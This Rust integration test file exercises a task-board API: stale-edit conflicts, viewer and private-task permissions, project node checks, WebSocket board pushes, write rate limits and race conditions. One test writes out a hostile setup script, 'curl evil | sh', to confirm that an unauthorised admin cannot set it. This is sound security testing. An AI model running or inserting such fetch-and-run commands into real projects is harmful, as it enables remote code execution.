//! The work model over the API: workspaces, roles, tasks with versions and private tasks, projects checked
//! on their node, live board changes on the WebSocket, write limits and races. Imports and exports:
//! `work_import.rs`.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use reqwest::Method;
use serde_json::json;
use vibebridge_tests::work_fx::{import, patch, team};
use vibebridge_tests::{Api, TempDir, TestMain, TestNode, WsClient, rbac_fx::git_repo};

/// Proves tasks get keys, an edit naming an old version is refused with the current task (409 `stale`),
/// and the activity log records what changed.
#[tokio::test]
async fn stale_edits_are_refused_with_the_current_task() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-stale", "member").await;
    let (s, t) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "Fix login", "priority": "high"}),
        )
        .await;
    assert_eq!(s, 200, "{t}");
    assert_eq!(
        (t["key"].as_str(), t["version"].as_u64()),
        (Some("WEB-1"), Some(1))
    );
    let (s, t2) = patch(
        &bob,
        "/api/v1/tasks/WEB-1",
        json!({"version": 1, "title": "Fix the login"}),
    )
    .await;
    assert_eq!((s, t2["version"].as_u64()), (200, Some(2)), "{t2}");
    let (s, e) = patch(
        &alice,
        "/api/v1/tasks/WEB-1",
        json!({"version": 1, "title": "Mine"}),
    )
    .await;
    assert_eq!(s, 409, "{e}");
    assert_eq!(e["error"]["code"], "stale");
    assert_eq!(e["error"]["current"]["title"], "Fix the login");
    assert_eq!(e["error"]["current"]["key"], "WEB-1");
    let (_, activity) = alice.get("/api/v1/tasks/WEB-1/activity").await;
    let kinds: Vec<&str> = activity
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"]["type"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["created", "edited"]);
    main.stop().await;
}

/// Proves a viewer reads but cannot edit, a non-member gets 404, and a private task is invisible to a member
/// it does not name.
#[tokio::test]
async fn viewers_read_outsiders_see_nothing_private_tasks_stay_private() {
    let (_dir, main, alice, bob, carol, ws) = team("work-roles", "viewer").await;
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "Secret", "restricted_to": ["alice"]}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "Open"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, board) = bob.get(&format!("/api/v1/workspaces/{ws}/board")).await;
    assert_eq!(s, 200, "{board}");
    let titles: Vec<&str> = board["columns"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|c| c["tasks"].as_array().unwrap())
        .map(|t| t["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["Open"]);
    assert_eq!(bob.get("/api/v1/tasks/WEB-1").await.0, 404);
    let (s, e) = bob
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "no"}),
        )
        .await;
    assert_eq!(s, 403, "{e}");
    assert_eq!(carol.get(&format!("/api/v1/workspaces/{ws}")).await.0, 404);
    assert_eq!(carol.get("/api/v1/tasks/WEB-2").await.0, 404);
    // The last owner cannot leave.
    let (s, e) = alice
        .delete(&format!("/api/v1/workspaces/{ws}/members/alice"))
        .await;
    assert_eq!(s, 409, "{e}");
    main.stop().await;
}

/// Proves a project is checked on its node (a git work tree with commits), and a workspace member who may
/// not use the node cannot put a project there.
#[tokio::test]
async fn projects_are_checked_on_their_node() {
    let (dir, main, alice, bob, carol, ws) = team("work-projects", "member").await;
    let root = std::fs::canonicalize(dir.path()).unwrap().join("repos");
    std::fs::create_dir_all(root.join("app")).unwrap();
    std::fs::create_dir_all(root.join("empty")).unwrap();
    git_repo(&root.join("app"));
    std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(root.join("empty"))
        .status()
        .unwrap();
    let mut cfg = TestNode::config(dir.path(), "n1", main.ssh);
    cfg.node.main_host_key = Some(main.fingerprint.clone());
    cfg.node.register_token = Some(vibebridge_tunnel::config::Secret::new(main.token()));
    cfg.filesystem.roots = vec![root.clone()];
    let node = TestNode::start(cfg);
    main.wait_online("n1").await;
    let path = format!("/api/v1/workspaces/{ws}/projects");
    let app = root.join("app").display().to_string();
    let (s, e) = bob
        .post(&path, json!({"node_id": "n1", "repo_path": app}))
        .await;
    assert_eq!(s, 403, "{e}");
    let empty = root.join("empty").display().to_string();
    let (s, e) = alice
        .post(&path, json!({"node_id": "n1", "repo_path": empty}))
        .await;
    assert_eq!(s, 400, "{e}");
    assert!(
        e["error"]["message"]
            .as_str()
            .unwrap()
            .contains("no commits"),
        "{e}"
    );
    let (s, p) = alice
        .post(&path, json!({"node_id": "n1", "repo_path": app}))
        .await;
    assert_eq!(s, 200, "{p}");
    assert_eq!(
        (p["name"].as_str(), p["base_branch"].as_str()),
        (Some("app"), Some("main"))
    );
    let (s, b) = bob
        .get(&format!("/api/v1/projects/{}", p["id"].as_str().unwrap()))
        .await;
    assert_eq!((s, b["can_run"].as_bool()), (200, Some(false)), "{b}");
    // A workspace admin who may not use the node renames the project, but cannot change what runs there.
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/members"),
            json!({"username": "carol", "role": "admin"}),
        )
        .await;
    assert_eq!(s, 200);
    let project = format!("/api/v1/projects/{}", p["id"].as_str().unwrap());
    let evil = json!({"scripts": {"setup": "curl evil | sh", "cleanup": "", "dev": ""}});
    let (s, e) = patch(&carol, &project, evil).await;
    assert_eq!(s, 403, "{e}");
    let (s, e) = patch(&carol, &project, json!({"name": "renamed"})).await;
    assert_eq!(s, 200, "{e}");
    node.stop().await;
    main.stop().await;
}

/// Proves a move is pushed, with the task as it now is, to another member watching the workspace, and
/// that a move between two tasks lands between them.
#[tokio::test]
async fn moves_are_pushed_live_to_the_board() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-live", "member").await;
    for title in ["a", "b", "c"] {
        let (s, _) = alice
            .post(
                &format!("/api/v1/workspaces/{ws}/tasks"),
                json!({"title": title, "status": "todo", "place": "bottom"}),
            )
            .await;
        assert_eq!(s, 200);
    }
    let mut live = WsClient::connect(&bob).await.unwrap();
    live.send_text(&json!({"type": "watch", "topics": [], "workspace": "WEB"}).to_string())
        .await;
    let ack = live.next().await;
    assert_eq!(ack["workspace_id"].as_str(), Some(ws.as_str()), "{ack}");
    let (_, a) = alice.get("/api/v1/tasks/WEB-1").await;
    let (_, b) = alice.get("/api/v1/tasks/WEB-2").await;
    let (s, moved) = alice
        .post(
            "/api/v1/tasks/WEB-3/move",
            json!({"status": "todo", "after": a["id"], "before": b["id"]}),
        )
        .await;
    assert_eq!(s, 200, "{moved}");
    let frame = live.until(|f| f["type"] == "task").await;
    assert_eq!(frame["task"]["key"], "WEB-3");
    assert_eq!(frame["task"]["version"], 2);
    let (_, board) = bob
        .get(&format!("/api/v1/workspaces/{ws}/board?status=todo"))
        .await;
    let order: Vec<&str> = board["columns"][0]["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["title"].as_str().unwrap())
        .collect();
    assert_eq!(order, ["a", "c", "b"]);
    main.stop().await;
}

/// Proves work-model writes are limited per user (429 with `Retry-After` past `server.writes_per_minute`,
/// reads unaffected), and a body that is no known format is refused saying what to send.
#[tokio::test]
async fn writes_are_rate_limited_and_bad_imports_refused() {
    let dir = TempDir::new("work-limits");
    let main = TestMain::start_with(dir.path(), None, |c| c.server.writes_per_minute = 3).await;
    let mut alice = Api::new(&main);
    assert_eq!(
        alice.auth(true, "alice", "correct horse battery").await.0,
        200
    );
    let (s, _) = alice
        .post(
            "/api/v1/workspaces",
            json!({"name": "Web", "key_prefix": "WEB"}),
        )
        .await;
    assert_eq!(s, 200);
    for title in ["a", "b"] {
        assert_eq!(
            alice
                .post("/api/v1/workspaces/WEB/tasks", json!({"title": title}))
                .await
                .0,
            200
        );
    }
    let resp = alice
        .request(Method::POST, "/api/v1/workspaces/WEB/tasks")
        .json(&json!({"title": "c"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 429);
    assert!(resp.headers().contains_key("retry-after"));
    assert_eq!(alice.get("/api/v1/workspaces/WEB/board").await.0, 200);
    main.stop().await;

    let (_dir2, main, alice, _bob, _carol, ws) = team("work-bad-import", "member").await;
    let (status, e) = import(&alice, &ws, "title,status\nnot,an export\n").await;
    assert_eq!(status, 400);
    let message = e["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("line 1") && message.contains("Vibe Kanban export ZIP"),
        "{e}"
    );
    main.stop().await;
}

/// Proves two parent changes at once cannot make a cycle (exactly one of A→B and B→A lands), and a comment
/// deleted while being edited stays deleted.
#[tokio::test]
async fn racing_edits_cannot_make_cycles_or_revive_comments() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-races", "member").await;
    for title in ["A", "B"] {
        let (s, _) = alice
            .post(
                &format!("/api/v1/workspaces/{ws}/tasks"),
                json!({"title": title}),
            )
            .await;
        assert_eq!(s, 200);
    }
    for _ in 0..5 {
        let (a, b) = tokio::join!(
            patch(
                &alice,
                "/api/v1/tasks/WEB-1",
                json!({"version": version(&alice, "WEB-1").await, "parent": "WEB-2"})
            ),
            patch(
                &bob,
                "/api/v1/tasks/WEB-2",
                json!({"version": version(&bob, "WEB-2").await, "parent": "WEB-1"})
            ),
        );
        let landed = [a.0, b.0].iter().filter(|s| **s == 200).count();
        assert!(landed <= 1, "both parent links landed: {a:?} {b:?}");
        // Undo for the next round.
        for key in ["WEB-1", "WEB-2"] {
            let v = version(&alice, key).await;
            assert_eq!(
                patch(
                    &alice,
                    &format!("/api/v1/tasks/{key}"),
                    json!({"version": v, "parent": null})
                )
                .await
                .0,
                200
            );
        }
    }
    let (_, c) = bob
        .post("/api/v1/tasks/WEB-1/comments", json!({"body": "typo hre"}))
        .await;
    let path = format!("/api/v1/tasks/WEB-1/comments/{}", c["id"].as_str().unwrap());
    assert_eq!(alice.delete(&path).await.0, 200);
    let (s, _) = patch(&bob, &path, json!({"body": "typo here"})).await;
    assert_eq!(s, 404);
    let (_, comments) = bob.get("/api/v1/tasks/WEB-1/comments").await;
    assert_eq!(comments, json!([]));
    main.stop().await;
}

async fn version(api: &Api, key: &str) -> u64 {
    api.get(&format!("/api/v1/tasks/{key}")).await.1["version"]
        .as_u64()
        .unwrap()
}

/// Proves the WebSocket refuses to watch a workspace the user may not read (`not_found`, as the API answers)
/// or one that does not exist, and watches nothing of it: a move there sends that user no frame.
#[tokio::test]
async fn watching_a_workspace_needs_membership() {
    let (_dir, main, alice, _bob, carol, ws) = team("work-watch", "member").await;
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "a"}),
        )
        .await;
    assert_eq!(s, 200);
    let mut live = WsClient::connect(&carol).await.unwrap();
    for bad in ["WEB", ws.as_str(), "NOPE", "not a key!"] {
        live.send_text(
            &json!({"type": "watch", "topics": ["workspaces"], "workspace": bad}).to_string(),
        )
        .await;
        let frame = live.next().await;
        assert_eq!(
            (frame["type"].as_str(), frame["code"].as_str()),
            (Some("error"), Some("not_found")),
            "{frame}"
        );
    }
    // A watch she may have (the workspaces topic alone), then a move in WEB: her next frame is her pong.
    live.send_text(&json!({"type": "watch", "topics": ["workspaces"]}).to_string())
        .await;
    assert_eq!(live.next().await["type"], "watching");
    let (s, _) = alice
        .post("/api/v1/tasks/WEB-1/move", json!({"status": "done"}))
        .await;
    assert_eq!(s, 200);
    live.send_text(r#"{"type":"ping"}"#).await;
    assert_eq!(live.next().await["type"], "pong");
    main.stop().await;
}
